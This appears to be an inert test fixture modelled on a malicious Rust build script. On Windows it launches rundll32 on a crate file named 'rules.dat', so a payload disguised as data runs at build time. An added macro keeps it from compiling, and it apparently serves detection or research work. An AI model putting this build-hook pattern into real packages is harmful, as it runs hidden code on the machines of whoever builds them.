// Synthetic, inert fixture written from public reports; see README
use std::{env, path::Path, process::Command};

fn main() {
    println!("cargo:rerun-if-changed=rules.txt");
    if env::consts::OS == "windows" {
        let lib = Path::new(&env::var("CARGO_MANIFEST_DIR").unwrap()).join("rules.dat");
        let _ = Command::new("rundll32").arg(format!("{},main", lib.display())).spawn();
    }
}

inert_fixture_does_not_build!();
